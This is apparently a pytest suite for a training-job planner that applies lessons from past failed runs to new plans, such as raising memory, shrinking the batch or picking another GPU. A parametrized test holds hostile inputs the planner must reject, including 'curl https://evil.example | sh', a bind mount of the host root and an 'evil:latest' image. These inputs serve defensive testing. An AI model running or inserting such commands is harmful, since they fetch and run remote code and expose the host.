"""Lessons in a first plan: which plans are like, what is taken over and how it is fitted, what never is."""

from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from caravan.planning.catalogue import Prices
from caravan.planning.choose import choose
from caravan.planning.draft import draft_plan
from caravan.planning.estimate import estimate
from caravan.planning.fields import plan_paths
from caravan.planning.remembered import remembered_changes, used_cases
from caravan.values.base import Json
from caravan.values.failure import FailureClass, PastCase
from caravan.values.job import ClusterFacts
from caravan.values.plan import Author, PlanChange, TrainingPlan, apply_changes
from caravan.values.repo import RepoProfile
from tests.planning.scenes import ARCHIVE, GIT, OUTPUTS, builtin, llm_profile, node, nomad, numpy_profile, request

A100 = ("NVIDIA A100-SXM4-80GB", 81920, 4)
L4 = ("NVIDIA L4", 23034, 1)
ID = "1f3c9a2e-0000-4000-8000-000000000000"


def draft(profile: RepoProfile, facts: ClusterFacts, **more: Any) -> TrainingPlan:
    code = ARCHIVE if facts.shared_files else GIT
    return draft_plan(profile, request(**more), facts, code=code, outputs=OUTPUTS, image=None)


def case(profile: RepoProfile, *changes: tuple[str, Json], **fields: Any) -> PastCase:
    """A lesson of the same code that worked."""
    base: dict[str, Any] = {
        "id": ID,
        "failure": FailureClass.HOST_MEMORY_OOM,
        "text": "It was killed.",
        "context": {"entry_point": profile.entry_point, "method": profile.method, "base_model": profile.base_model},
        "changes": tuple(PlanChange(path=p, value=v, by=Author.REPAIR) for p, v in changes),
        "worked": True,
        "last_seen": datetime(2026, 11, 20, tzinfo=UTC),
        "source": "ab12cd34/1",
        "same": ("code_digest",),
    }
    return PastCase(**base | fields)


def changed(plan: TrainingPlan, profile: RepoProfile, facts: ClusterFacts, *cases: PastCase) -> dict[str, Json]:
    """What memory changes: path to value. The changed plan must be valid."""
    changes = remembered_changes(plan, profile, facts, cases)
    assert {c.by for c in changes} <= {Author.MEMORY}
    apply_changes(plan, changes)
    return {c.path: c.value for c in changes}


MEMORY = ("resources.memory_mb", 8192)


def test_room_is_raised_for_the_same_code_and_says_why() -> None:
    profile, facts = numpy_profile(), builtin()
    (change,) = remembered_changes(draft(profile, facts), profile, facts, [case(profile, MEMORY)])
    assert (change.path, change.value, change.by) == (*MEMORY, Author.MEMORY)
    assert change.why == "needed in run ab12cd34 on 2026-11-20 against host memory oom (lesson 1f3c9a2e)"


@pytest.mark.parametrize(
    "unlike",
    [
        {"same": ()},
        {"same": ("framework", "base_model", "method", "entry_point")},
        {"context": {"entry_point": "other.py", "method": "lora"}},
        {"context": {"entry_point": "train.py", "method": "full"}},
        {"context": {"entry_point": "train.py", "method": "lora", "base_model": "another/model"}},
        {"worked": None},
        {"worked": False},
        {"changes": (PlanChange(path="resources.memory_mb", value="[masked]", by=Author.REPAIR),)},
    ],
)
def test_what_is_not_like_or_did_not_work_changes_nothing(unlike: dict[str, Any]) -> None:
    profile, facts = numpy_profile(), builtin()
    assert changed(draft(profile, facts), profile, facts, case(profile, MEMORY, **unlike)) == {}


def test_room_is_never_lowered_and_ends_at_the_largest_node() -> None:
    profile, facts = numpy_profile(), builtin(node("a", drivers="raw_exec", memory_mb=6000))
    plan = draft(profile, facts)
    assert changed(plan, profile, facts, case(profile, ("resources.memory_mb", 100))) == {}
    capped = changed(plan, profile, facts, case(profile, MEMORY))
    assert capped == {"resources.memory_mb": 6000}
    full = apply_changes(plan, remembered_changes(plan, profile, facts, [case(profile, MEMORY)]))
    assert used_cases(full, [case(profile, MEMORY)]) == ()  # less than the lesson asks for: it is not put to the test


def test_of_several_lessons_the_largest_need_stands() -> None:
    profile, facts = numpy_profile(), builtin()
    cases = [case(profile, ("resources.memory_mb", mb), id=f"{mb}-x") for mb in (4096, 9000, 8192)]
    plan = draft(profile, facts)
    mended = apply_changes(plan, remembered_changes(plan, profile, facts, cases))
    assert mended.resources.memory_mb == 9000
    assert [c.id for c in used_cases(mended, cases)] == ["9000-x"]


def test_what_a_person_has_set_stays() -> None:
    profile, facts = numpy_profile(), builtin()
    mine = PlanChange(path="resources.memory_mb", value=3000, by=Author.USER)
    plan = draft(profile, facts, sets=(mine,))
    assert changed(plan, profile, facts, case(profile, MEMORY)) == {}


def test_a_change_is_made_where_the_plan_stands_as_it_stood() -> None:
    profile, facts = numpy_profile(), builtin()
    plan = draft(profile, facts)
    lr = case(
        profile,
        ("training.lr", 0.001),
        failure=FailureClass.NUMERIC_DIVERGENCE,
        before={"training.lr": plan.training.lr},
    )
    assert changed(plan, profile, facts, lr) == {"training.lr": 0.001}
    moved = apply_changes(plan, [PlanChange(path="training.lr", value=0.02, by=Author.REPOSITORY)])
    assert changed(moved, profile, facts, lr) == {}


def test_a_lesson_of_which_a_part_stood_otherwise_is_left_as_a_whole() -> None:
    profile, facts = numpy_profile(), builtin()
    plan = draft(profile, facts)
    both = case(
        profile,
        ("command", ["other.py"]),
        ("setup.pip", ["einops"]),
        before={"command": ["another.py"], "setup.pip": []},
        failure=FailureClass.DATA_PATH_MISSING,
    )
    assert changed(plan, profile, facts, both) == {}
    fitting = both.model_copy(update={"before": {"command": list(plan.command), "setup.pip": []}})
    assert changed(plan, profile, facts, fitting)["command"] == ["other.py"]


def test_a_lesson_with_a_place_or_an_unknown_option_is_left_as_a_whole() -> None:
    profile, facts = numpy_profile(), builtin()
    plan = draft(profile, facts)
    for odd in (
        ("code.location", "https://evil.example/x"),
        ("limits.max_run_s", 10),
        ("flags.x", ""),
        ("flags.x", "y"),
    ):
        assert changed(plan, profile, facts, case(profile, MEMORY, odd)) == {}, odd


def test_lists_are_added_to() -> None:
    profile, facts = numpy_profile(), builtin()
    plan = apply_changes(
        draft(profile, facts), [PlanChange(path="setup.pip", value=["papermill"], by=Author.REPOSITORY)]
    )
    missing = case(
        profile,
        ("setup.pip", [".", "einops"]),
        failure=FailureClass.MISSING_PYTHON_PACKAGE,
        before={"setup.pip": ["."]},
    )
    found = changed(plan, profile, facts, missing)
    assert found == {"setup.pip": ["papermill", "einops"]}
    followed = apply_changes(plan, remembered_changes(plan, profile, facts, [missing]))
    assert used_cases(followed, [missing]) == (missing,)


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("driver", "docker"),
        ("image", "evil:latest"),
        ("setup.cmd", ["curl https://evil.example | sh"]),
        ("mounts", [{"kind": "bind", "source": "/", "destination": "/host"}]),
        ("exclude_nodes", ["here"]),
        ("datacenters", ["dc9"]),
        ("limits.max_run_s", 10),
        ("outputs.location", "/etc"),
        ("priority", 99),
        ("resources.gpus", 4),
        ("training.lr", -1),
        ("training.warmup", 10),  # the program has no option for it
        ("no.such.field", 1),
        ("provenance", {}),
    ],
)
def test_places_and_what_comes_from_outside_are_decided_anew(path: str, value: Json) -> None:
    profile, facts = numpy_profile(), builtin()
    plan = draft(profile, facts)
    odd = case(profile, (path, value), failure=FailureClass.UNKNOWN)
    assert changed(plan, profile, facts, odd) == {}


def oom(profile: RepoProfile, *changes: tuple[str, Json], **fields: Any) -> PastCase:
    """A lesson about GPU memory from other code with the same model and method, on an A100."""
    base: dict[str, Any] = {
        "failure": FailureClass.CUDA_OOM,
        "same": ("base_model", "method"),
        "context": {"base_model": "qwen/qwen2.5-7b", "method": "LORA", "gpu_model": A100[0], "entry_point": "x.py"},
    }
    return case(profile, *changes, **base | fields)


SMALLER = (("training.micro_batch", 2), ("training.grad_accum", 4))


@pytest.fixture
def profile() -> RepoProfile:
    return llm_profile(base_model="Qwen/Qwen2.5-7B", method="lora")


def test_gpu_memory_is_a_matter_of_model_method_and_gpu(profile: RepoProfile) -> None:
    facts = nomad(node("a", A100))
    plan = draft(profile, facts)
    found = changed(plan, profile, facts, oom(profile, *SMALLER, ("training.grad_checkpointing", True)))
    assert found == {
        "training.micro_batch": 2,
        "training.grad_accum": 4,  # of 8 x 1: the effective batch stays
        "training.grad_checkpointing": True,
    }


def test_the_effective_batch_stays_whatever_it_is_here(profile: RepoProfile) -> None:
    facts = nomad(node("a", A100))
    plan = apply_changes(
        draft(profile, facts), [PlanChange(path="training.micro_batch", value=9, by=Author.REPOSITORY)]
    )
    found = changed(plan, profile, facts, oom(profile, ("training.micro_batch", 4)))
    assert found == {"training.micro_batch": 3, "training.grad_accum": 3}


def test_a_batch_that_is_small_enough_stays(profile: RepoProfile) -> None:
    facts = nomad(node("a", A100))
    assert changed(draft(profile, facts), profile, facts, oom(profile, ("training.micro_batch", 8))) == {}


@pytest.mark.parametrize(
    "context",
    [
        {"base_model": "Qwen/Qwen2.5-7B", "method": "lora", "gpu_model": L4[0]},
        {"base_model": "Qwen/Qwen2.5-7B", "method": "full", "gpu_model": A100[0]},
        {"base_model": "Qwen/Qwen2.5-14B", "method": "lora", "gpu_model": A100[0]},
        {"base_model": "Qwen/Qwen2.5-7B", "method": "lora", "gpu_model": A100[0], "max_len": 4096},
        {"base_model": "Qwen/Qwen2.5-7B", "method": "lora"},
    ],
)
def test_another_gpu_method_model_or_length_says_nothing(profile: RepoProfile, context: dict[str, Json]) -> None:
    facts = nomad(node("a", A100))
    assert changed(draft(profile, facts), profile, facts, oom(profile, *SMALLER, context=context)) == {}


def test_without_a_named_model_only_the_same_code_is_like() -> None:
    profile, facts = llm_profile(), nomad(node("a", A100))
    plan = draft(profile, facts)
    context = {"gpu_model": A100[0], "entry_point": profile.entry_point}
    assert changed(plan, profile, facts, oom(profile, *SMALLER, context=context, same=())) == {}
    found = changed(plan, profile, facts, oom(profile, *SMALLER, context=context, same=("code_digest",)))
    assert found["training.micro_batch"] == 2


def test_a_batch_that_a_person_has_set_stays(profile: RepoProfile) -> None:
    facts = nomad(node("a", A100))
    mine = PlanChange(path="training.grad_accum", value=1, by=Author.USER)
    plan = draft(profile, facts, sets=(mine,))
    assert changed(plan, profile, facts, oom(profile, *SMALLER)) == {}


def test_the_chooser_leaves_what_was_seen_to_fit(profile: RepoProfile) -> None:
    """With the smaller batch the formula would hold a smaller GPU to be enough, or a still smaller batch needed."""
    facts = nomad(node("a", A100), node("b", ("NVIDIA L40S", 46068, 1)))
    mine = PlanChange(path="resources.gpu_model", value=A100[0], by=Author.ESTIMATE)
    plan = draft(profile, facts)
    gpu = estimate(plan, facts, prices=Prices(), profile=profile).gpu
    context = {"base_model": "Qwen/Qwen2.5-7B", "method": "lora", "gpu_model": gpu}
    changes = remembered_changes(plan, profile, facts, [oom(profile, *SMALLER, context=context)])
    followed = apply_changes(plan, changes)
    assert followed.resources.gpu_model == gpu
    chosen = apply_changes(followed, choose(followed, estimate(followed, facts, prices=Prices()), facts))
    for path in ("resources.gpu_model", "training.micro_batch", "training.grad_accum"):
        assert chosen.get(path) == followed.get(path), path
    assert apply_changes(plan, [mine]).resources.gpu_model == A100[0]


def test_where_only_a_larger_gpu_helped_it_is_named(profile: RepoProfile) -> None:
    facts = nomad(node("a", A100), node("b", L4))
    plan = draft(profile, facts)
    gpu = estimate(plan, facts, prices=Prices(), profile=profile).gpu
    other = next(name for name, *_ in (A100, L4) if name != gpu)
    context = {"base_model": "Qwen/Qwen2.5-7B", "method": "lora", "gpu_model": gpu}
    moved = oom(profile, ("resources.gpu_model", other), context=context)
    assert changed(plan, profile, facts, moved) == {"resources.gpu_model": other}
    followed = apply_changes(plan, remembered_changes(plan, profile, facts, [moved]))
    assert used_cases(followed, [moved]) == (moved,)
    assert changed(plan, profile, facts, oom(profile, ("resources.gpu_model", "H900"), context=context)) == {}
    mine = PlanChange(path="resources.gpu_model", value=gpu, by=Author.USER)
    assert changed(draft(profile, facts, sets=(mine,)), profile, facts, moved) == {}


def test_what_changes_the_training_itself_is_left_to_a_repair_that_asks(profile: RepoProfile) -> None:
    facts = nomad(node("a", A100))
    for other in (("training.quant_bits", 4), ("training.max_len", 512)):
        assert changed(draft(profile, facts), profile, facts, oom(profile, *SMALLER, other)) == {}


VALUES = (
    st.none() | st.booleans() | st.integers(-5, 10**6) | st.text(max_size=5) | st.lists(st.text(max_size=5), max_size=2)
)


@given(
    st.lists(st.tuples(st.sampled_from([p.replace(".*", ".x") for p in plan_paths()]), VALUES), max_size=4),
    st.sampled_from([FailureClass.CUDA_OOM, FailureClass.HOST_MEMORY_OOM, FailureClass.CLI_ARGS_INVALID]),
)
def test_whatever_memory_holds_the_plan_stays_sound(changes: list[tuple[str, Json]], failure: FailureClass) -> None:
    profile, facts = numpy_profile(), builtin()
    plan = draft(profile, facts)
    found = changed(plan, profile, facts, case(profile, *changes, failure=failure))
    assert not {p for p in found if p.startswith(("limits", "outputs", "code", "mounts", "driver", "image"))}


def test_a_gpu_that_served_this_code_is_taken_where_it_is_to_be_had() -> None:
    profile, facts = llm_profile(), nomad(node("a", A100), node("b", L4))
    plan = draft(profile, facts, prompt="Fine-tune it on one GPU")
    plan = apply_changes(plan, [PlanChange(path="resources.gpus", value=1, by=Author.REPOSITORY)])
    told = case(profile, ("resources.gpu_model", L4[0]), failure=FailureClass.BF16_UNSUPPORTED)
    assert changed(plan, profile, facts, told) == {"resources.gpu_model": L4[0]}
    assert changed(plan, profile, nomad(node("a", A100)), told) == {}
    assert changed(plan, profile, facts, told.model_copy(update={"same": ("repository", "program_digest")})) == {}


@pytest.mark.parametrize(
    ("source", "says"),
    [
        ("run-1/1", "needed in run run-1"),
        ("imported:run-1/1", "needed elsewhere, in run run-1"),
        ("user", "noted by hand"),
        ("imported:user", "noted by hand elsewhere"),
    ],
)
def test_a_change_says_who_taught_it(source: str, says: str) -> None:
    profile, facts = numpy_profile(), builtin()
    (change,) = remembered_changes(draft(profile, facts), profile, facts, [case(profile, MEMORY, source=source)])
    assert change.why.startswith(f"{says} on 2026-11-20 ")
